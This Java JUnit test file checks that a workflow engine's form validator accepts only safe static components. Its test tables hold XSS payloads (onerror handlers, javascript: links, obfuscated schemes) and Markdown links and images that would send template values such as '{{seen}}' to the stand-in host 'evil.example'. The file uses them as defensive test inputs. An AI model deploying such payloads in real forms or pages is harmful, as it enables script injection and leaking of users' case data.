package org.bindery.engine.checks;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Pattern;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.TextNode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** A form shows texts and asks for what its step needs; nothing in it runs. */
class AllowedInFormsTests {

	private static final ModelFiles FILES = new ModelFiles();

	private static final String FIRST = "\"components\": [";

	static List<Path> forms() {
		return ModelFiles.named(".form");
	}

	@ParameterizedTest
	@MethodSource("forms")
	void takesOurs(Path form) {
		assertThat(violations(new String(ModelFiles.bytes(form), StandardCharsets.UTF_8))).isEmpty();
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', textBlock = """
			'{"type":"html","content":"<b>Hello</b>"}'                        | cannot show a form's "html"
			'{"type":"iframe","url":"https://example.org"}'                   | cannot show a form's "iframe"
			'{"type":"expression","key":"a","expression":"=1"}'               | cannot show a form's "expression"
			'{"type":"filepicker","key":"a"}'                                 | cannot show a form's "filepicker"
			'{"type":"script"}'                                               | cannot show a form's "script"
			'{"type":"text","text":"${conflictResolution.raiser(1)}"}'        | evaluates nothing
			'{"type":"text","text":"a","conditional":{"hide":"#{x.y()}"}}'    | evaluates nothing
			'{"type":"text","text":"<img src=x onerror=alert(1)>"}'           | Markdown without HTML
			'{"type":"text","text":"&lt;script&gt;alert(1)"}'                 | Markdown without HTML
			'{"type":"text","text":"[here](javascript:alert(1))"}'            | must not run a script
			'{"type":"text","text":"[here](java\\tscript&colon;alert(1))"}'   | must not run a script
			'{"type":"text","text":"[here](data:text/html;base64,PHN2Zz4=)"}' | must not run a script
			'{"type":"image","source":"https://example.org/seen.png"}'        | must come from Bindery itself
			'{"type":"image","source":"//example.org/seen.png"}'              | must come from Bindery itself
			'{"type":"textfield","key":"another"}'                            | does not know the form's field "another"
			'{"type":"text","text":"a","text":"b"}'                           | is not readable
			""")
	void refusesWhatCouldRun(String component, String reason) {
		assertThat(violations(raiseNeed().replace(FIRST, FIRST + component + ",")))
			.anyMatch((violation) -> violation.message().contains(reason) && violation.opensADoor());
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|',
			textBlock = """
					"value": "DEFER"    | "value": "DEFFER"                           | does not take "DEFFER" as "decision"
					"key": "decision",  | "key": "decision", "defaultValue": "LATER", | "decision" must not begin with "LATER"
					"key": "deferUntil",  | "key": "deferUntil", "defaultValue": "2030",  | "deferUntil" must not begin with "2030"
					""")
	void refusesWhatItsStepDoesNotTake(String here, String instead, String reason) {
		String form = new String(ModelFiles.bytes(ModelFiles.PROCESSES.resolve("needs/reviewNeed.form")),
				StandardCharsets.UTF_8);
		assertThat(form).contains(here);
		assertThat(violations(form.replaceFirst(Pattern.quote(here), instead))).singleElement()
			.matches((violation) -> violation.message().contains(reason) && !violation.opensADoor());
	}

	@Test
	void offersTextsButNobodyInPlaceOfItsStep() {
		String branches = "\"type\": \"select\", \"values\": [{\"label\": \"East\", \"value\": \"East\"}],";
		String area = new String(ModelFiles.bytes(ModelFiles.PROCESSES.resolve("needs/describeNeed.form")),
				StandardCharsets.UTF_8)
			.replaceFirst("\"type\": \"textfield\",(\\s+\"id\": \"Field_serviceArea\")", branches + "$1");
		assertThat(area).contains("East");
		assertThat(violations(area)).isEmpty();
		assertThat(violations(area.replace("\"value\": \"East\"", "\"value\": \"" + "E".repeat(201) + "\"")))
			.isNotEmpty();
		String contact = new String(
				ModelFiles.bytes(ModelFiles.PROCESSES.resolve("partnerships/designateContact.form")),
				StandardCharsets.UTF_8)
			.replace("\"valuesKey\": \"contactOptions\"", "\"values\": [{\"label\": \"Jane\", \"value\": \"jane\"}]");
		assertThat(violations(contact)).extracting(Violation::message)
			.containsExactly("The step does not take \"jane\" as \"contact\"");
	}

	@ParameterizedTest
	@ValueSource(
			strings = { "= \\\"https://example.org/seen.png\\\"", "=title", "/{{title}}", "/\\t/example.org/a.png" })
	void refusesAPictureWhoseAddressShowsOnlyLater(String source) {
		refusesAsAPictureFromElsewhere("{\"type\":\"image\",\"source\":\"" + source + "\"}");
	}

	@ParameterizedTest
	@ValueSource(strings = { "Look: ![a](https://example.org/a.png)", "![a][b]\\n[b]: //example.org/a.png", "![a]",
			"![a\\\\](/a.png)](https://example.org/a.png)", "![a`](/a.png)`](https://example.org/a.png)",
			"![![a](/a.png)](https://example.org/a.png)" })
	void refusesMarkdownWithAPictureFromElsewhere(String text) {
		refusesAsAPictureFromElsewhere("{\"type\":\"text\",\"text\":\"" + text + "\"}");
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', textBlock = """
			[Guidelines]({{"https://evil.example/?m=" + replace(title, "[^a-zA-Z0-9]+", "+")}}) | computes nothing
			{{"<" + "h1>INJ<" + "/h1>"}}                                   | computes nothing
			{{"!" + "[pic](https://evil.example/p.png)"}}                  | computes nothing
			="[x](https://evil.example/" + title + ")"                     | computes nothing
			{{goalsOptions}}                                               | computes nothing
			{{#loop findings}}{{this}}{{/loop}}                            | computes nothing
			{{{seen}}}                                                     | must not touch
			{{this}}                                                       | computes nothing
			{{if a then "(https://" else ""}}                              | computes nothing
			What you typed: {{title}}                                      | computes nothing
			What you typed: {{if a = "" then "nothing" else title}}        | computes nothing
			\uFFFC                                                         | computes nothing
			[help](https://evil.example/?m={{seen}})                       | lead to a fixed address
			[x](//evil.example/{{seen}})                                   | lead to a fixed address
			[x](java{{seen}}script:alert(1))                               | lead to a fixed address
			[x](https:{{seen}}//evil.example)                              | lead to a fixed address
			[x]( {{seen}} )                                                | lead to a fixed address
			[x](http://evil.example)                                       | lead to a fixed address
			[x](//evil.example)                                            | lead to a fixed address
			[x](/\\evil.example)                                       | lead to a fixed address
			[a {{seen}} b](https://library.example)                        | lead to a fixed address
			[x][y]\\n\\n[y]: https://evil.example/{{seen}}                 | lead to a fixed address
			[y]:\\n//evil.example/{{seen}}                                 | lead to a fixed address
			[a [b](/c) d](//evil.example)                                  | lead to a fixed address
			[x]{{seen}}(/a)                                                | must not touch
			https://evil.example/{{seen}}                                  | must not touch
			h{{seen}}ttps://evil.example/                                  | must not touch
			https&colon;//evil.example/{{seen}}                            | must not touch
			www.evil.example?m={{seen}}                                    | must not touch
			ww{{seen}}w.evil.example                                       | must not touch
			{{seen}}@evil.example                                          | must not touch
			\\[x](https://evil.example/?m=){{seen}}                      | must not touch
			{{site}}{{seen}}                                               | must not touch
			{{site}}{{if urgent then "" else " (urgent)"}}{{seen}}         | must not touch
			[x]{{if a then "(" else ""}}/{{if a then "" else ""}}/evil.example/) | lead to a fixed address
			<{{seen}} src=x>                                               | must not touch
			<{{if a then "" else "b"}}img src=x>                           | without HTML
			""")
	void refusesATextThatCouldCarryTheCaseAway(String text, String reason) {
		for (String property : List.of("text", "label")) {
			String component = "{\"type\":\"%s\",\"%s\":%s}".formatted(property.equals("text") ? "text" : "group",
					property, asJson(text.replace("\\n", "\n")));
			assertThat(violations(raiseNeed().replace(FIRST, FIRST + component + ","))).as(component)
				.anyMatch((violation) -> violation.message().contains(reason) && violation.opensADoor());
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "{{a}}{{if b then \" (urgent)\" else \"\"}}, by {{c}}’s team: **{{d}}**.",
			"[Write](mailto:desk@library.example), [call](tel:+15550100) or [look](/guides/contacts#a) at {{a}}.",
			"See https://library.example/rules first. {{a}}", "[ ] {{a}}",
			"{{if a = \"\" then \"nothing yet\" else a}} ({{b}})", "{{if a > 3 then \"many\" else \"few\"}}" })
	void takesWhatStandsApartAndLinksThatAreFixed(String text) {
		String component = "{\"type\":\"text\",\"text\":%s},".formatted(asJson(text));
		assertThat(violations(raiseNeed().replace(FIRST, FIRST + component))).isEmpty();
	}

	@Test
	void showsNoListAsAText() {
		String lists = "{\"type\":\"table\",\"label\":\"a\",\"dataSource\":\"=offers\"},"
				+ "{\"type\":\"text\",\"text\":\"%s\"},";
		assertThat(violations(raiseNeed().replace(FIRST, FIRST + lists.formatted("{{heading}}")))).isEmpty();
		assertThat(violations(raiseNeed().replace(FIRST, FIRST + lists.formatted("{{offers}}")))).singleElement()
			.matches((violation) -> violation.message().contains("computes nothing") && violation.opensADoor());
	}

	@ParameterizedTest
	@MethodSource("forms")
	void showsNoListOfAnyTableAsAText(Path form) throws IOException {
		for (String list : new ObjectMapper().readTree(form.toFile()).findValuesAsText("dataSource")) {
			String text = "{\"type\":\"text\",\"text\":\"{{%s}}\"},".formatted(list.substring(1));
			assertThat(violations(raiseNeed().replace(FIRST, FIRST + text))).as(list)
				.anyMatch((violation) -> violation.message().contains("computes nothing") && violation.opensADoor());
		}
	}

	private static String asJson(String text) {
		return TextNode.valueOf(text).toString();
	}

	@ParameterizedTest
	@ValueSource(strings = { "{\"type\":\"select\",\"label\":\"a\",\"valuesExpression\":\"=title\"}",
			"{\"type\":\"table\",\"label\":\"a\",\"columnsExpression\":\"=title\"}",
			"{\"type\":\"text\",\"text\":\"a\",\"url\":\"https://evil.example\"}",
			"{\"type\":\"text\",\"text\":\"a\",\"href\":\"/a\"}",
			"{\"type\":\"group\",\"components\":[{\"type\":\"text\",\"onclick\":\"a\"}]}",
			"{\"type\":\"group\",\"path\":\"a\"}", "{\"type\":\"group\",\"conditional\":{\"show\":\"=a\"}}" })
	void refusesPropertiesThatAreNotListed(String component) {
		assertThat(violations(raiseNeed().replace(FIRST, FIRST + component + ",")))
			.anyMatch((violation) -> violation.message().contains("must not have") && violation.opensADoor());
	}

	private static void refusesAsAPictureFromElsewhere(String component) {
		assertThat(violations(raiseNeed().replace(FIRST, FIRST + component + ","))).anyMatch(
				(violation) -> violation.message().contains("must come from Bindery itself") && violation.opensADoor());
	}

	@Test
	void takesMarkdownAndPicturesOfItsOwn() {
		assertThat(violations(raiseNeed().replace(FIRST,
				FIRST + "{\"type\":\"text\",\"text\":\"**Less < more** [why](https://example.org) {{heading}}\"},"
						+ "{\"type\":\"text\",\"text\":\"![Ours](/pictures/logo.png) Look!\"},"
						+ "{\"type\":\"image\",\"source\":\"data:image/png;base64,iVBORw0KGgo=\"},"
						+ "{\"type\":\"image\",\"source\":\"/pictures/logo.png?size=2\"},")))
			.isEmpty();
	}

	private static List<Violation> violations(String form) {
		return FormFiles.check(form, FILES);
	}

	private static String raiseNeed() {
		return new String(ModelFiles.bytes(ModelFiles.PROCESSES.resolve("partnerships/raiseNeed.form")),
				StandardCharsets.UTF_8);
	}

}
